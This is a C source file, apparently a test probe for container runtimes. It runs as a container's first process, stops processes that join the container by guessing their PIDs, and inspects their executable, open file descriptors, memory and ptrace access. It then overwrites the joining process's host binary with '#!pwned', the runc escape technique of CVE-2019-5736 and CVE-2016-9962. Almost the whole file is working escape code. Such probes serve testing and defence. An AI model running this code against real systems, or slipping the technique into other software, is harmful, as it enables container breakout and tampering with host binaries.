/* SPDX-License-Identifier: Apache-2.0 */
/* payload_hunter.c - a container's first process that lies in wait for whoever joins it.
 *
 *   hunter MILLISECONDS OURS    one line on stdout per thing that it got hold of
 *
 * Process numbers are given one after the other, so the next one is known beforehand. A newcomer is stopped the moment its
 * number exists, which needs no more than its user, and looked at between steps until it runs a file below OURS: its file,
 * its fds, its memory, its trace. Its file is kept open and written to once nobody runs it any more (CVE-2019-5736,
 * CVE-2016-9962). */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define STEPS_MAX 300
#define AHEAD 64
#define SPINS_MAX 20000
#define WRITE_TRIES 200

static long long now_ms(void)
{
	struct timespec t;

	(void)clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}

static bool link_of(pid_t pid, const char *name, char *ret, size_t room)
{
	char path[400];
	ssize_t n;

	(void)snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	n = readlink(path, ret, room - 1);
	ret[n > 0 ? n : 0] = '\0';
	return n > 0;
}

/* Stops it, and waits until it stands still; what it was doing in the kernel it does first. false: it is gone. */
static bool stop(pid_t pid)
{
	char path[64], text[512];

	(void)snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	if (kill(pid, SIGSTOP) < 0)
		return false;
	for (int spin = 0; spin < SPINS_MAX; spin++) {
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		ssize_t n = fd < 0 ? 0 : read(fd, text, sizeof(text) - 1);
		const char *state;

		if (fd >= 0)
			(void)close(fd);
		text[n > 0 ? n : 0] = '\0';
		state = strrchr(text, ')');
		if (!state || strchr("ZX", state[2]))
			return false;
		if (strchr("Tt", state[2]))
			return true;
	}
	return true;
}

/* The directory that is ours as well gives nothing away. */
static bool is_own_root(pid_t pid, const char *name)
{
	char path[400];
	struct stat its, own;

	(void)snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	return stat(path, &its) == 0 && stat("/", &own) == 0 && its.st_dev == own.st_dev &&
	       its.st_ino == own.st_ino;
}

static void list_fds(pid_t pid)
{
	char path[64], name[300], target[512];
	const struct dirent *e;
	DIR *d;

	(void)snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	d = opendir(path);
	while (d && (e = readdir(d))) {
		(void)snprintf(name, sizeof(name), "fd/%s", e->d_name);
		if (e->d_name[0] != '.' && !is_own_root(pid, name) &&
		    link_of(pid, name, target, sizeof(target)))
			printf("fd %s %s\n", e->d_name, target);
	}
	if (d)
		(void)closedir(d);
}

static void try_memory(pid_t pid)
{
	char path[64];
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0) {
		printf("mem %d\n", pid);
		(void)close(fd);
	}
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
		printf("ptrace %d\n", pid);
		(void)ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
		(void)waitpid(pid, NULL, __WALL);
		(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
}

/* One look at a stopped process. 1: it is the payload already. *exe keeps its file open. */
static int look(pid_t pid, const char *ours, int *exe, bool *seen)
{
	char target[512], path[64];

	if (link_of(pid, "exe", target, sizeof(target))) {
		if (strncmp(target, ours, strlen(ours)) == 0)
			return 1;
		if (!*seen)
			printf("exe %s\n", target);
		(void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		if (*exe < 0)
			*exe = open(path, O_RDONLY | O_CLOEXEC);
		if (!*seen)
			list_fds(pid);
		*seen = true;
	}
	try_memory(pid);
	return 0;
}

/* ETXTBSY while somebody runs it. */
static void overwrite(int exe)
{
	static const struct timespec pause = { .tv_nsec = 10000000 };
	char path[64];

	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
	for (int i = 0; i < WRITE_TRIES; i++) {
		int fd = open(path, O_WRONLY | O_CLOEXEC);

		if (fd >= 0) {
			if (write(fd, "#!pwned\n", 8) == 8)
				printf("wrote\n");
			(void)close(fd);
			return;
		}
		if (errno != ETXTBSY)
			return;
		(void)nanosleep(&pause, NULL);
	}
}

static void hunt(pid_t pid, const char *ours)
{
	int exe = -1;
	bool seen = false;

	for (int step = 0; step < STEPS_MAX && stop(pid); step++) {
		if (look(pid, ours, &exe, &seen) || kill(pid, SIGCONT) < 0)
			break;
		for (int i = 0; i < step; i++)
			(void)sched_yield();
	}
	(void)kill(pid, SIGCONT);
	printf("hunted %d\n", pid);
	(void)fflush(stdout);
	if (exe >= 0) {
		overwrite(exe);
		(void)close(exe);
		(void)fflush(stdout);
	}
}

int main(int argc, char *argv[])
{
	long long end = now_ms() + (argc > 1 ? strtoll(argv[1], NULL, 10) : 1000);
	pid_t at = getpid() + 1;

	printf("ready\n");
	(void)fflush(stdout);
	/* One may come and go unseen. */
	while (now_ms() < end)
		for (pid_t pid = at; pid < at + AHEAD; pid++)
			if (kill(pid, SIGSTOP) == 0) {
				hunt(pid, argc > 2 ? argv[2] : "/bin/");
				at = pid + 1;
			}
	return 0;
}
